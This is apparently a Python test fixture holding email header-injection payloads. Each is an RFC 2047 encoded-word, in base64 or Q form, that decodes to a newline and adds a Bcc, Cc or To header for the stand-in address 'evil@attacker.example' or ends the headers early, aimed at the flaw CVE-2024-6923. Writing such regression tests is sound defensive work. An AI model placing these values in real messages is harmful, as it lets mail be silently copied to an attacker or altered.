"""Hostile header payloads (issue 9): RFC 2047 encoded-words that decode into line breaks.

On Python before 3.11.10 / 3.12.5 (CVE-2024-6923) the email package decodes such a word in
a header value and writes the decoded newline raw: a Bcc, Cc or To is added, or `\\n\\n`
ends the headers early. Shared by the builder's unit tests and the suite against the
real server.
"""
import base64

ATTACKER = "evil@attacker.example"

# What an encoded-word hides: the line break and the header it would start.
HIDDEN = {
    "bcc-lf": f"x\nBcc: {ATTACKER}",
    "cc-lf": f"x\nCc: {ATTACKER}",
    "to-lf": f"x\nTo: {ATTACKER}",
    "bcc-crlf": f"x\r\nBcc: {ATTACKER}",
    "cc-crlf": f"x\r\nCc: {ATTACKER}",
    "body-split": "x\n\nThe headers end here; this is body text.",
    "body-split-crlf": f"x\r\n\r\nBcc: {ATTACKER}",
}


def b_word(text: str) -> str:
    """`text` as a base64 encoded-word."""
    return "=?utf-8?b?" + base64.b64encode(text.encode()).decode("ascii") + "?="


def q_word(text: str) -> str:
    """`text` as a Q encoded-word: letters and digits as they are, space as _, others =XX."""
    encoded = "".join(chr(byte) if chr(byte).isalnum() and byte < 128 else
                      "_" if byte == 32 else f"={byte:02X}" for byte in text.encode())
    return f"=?utf-8?q?{encoded}?="


# Every hidden header in both encodings, plus the issue's own example written loosely
# (':' and '@' unencoded, as Python's decoder also accepts).
WORDS = {
    **{f"b-{name}": b_word(text) for name, text in HIDDEN.items()},
    **{f"q-{name}": q_word(text) for name, text in HIDDEN.items()},
    "q-loose-bcc": f"=?utf-8?q?x=0ABcc:_{ATTACKER}?=",
    "q-loose-cc-in-word": f"=?UTF-8?Q?Acme=0D=0ACc:_{ATTACKER}?=",
}
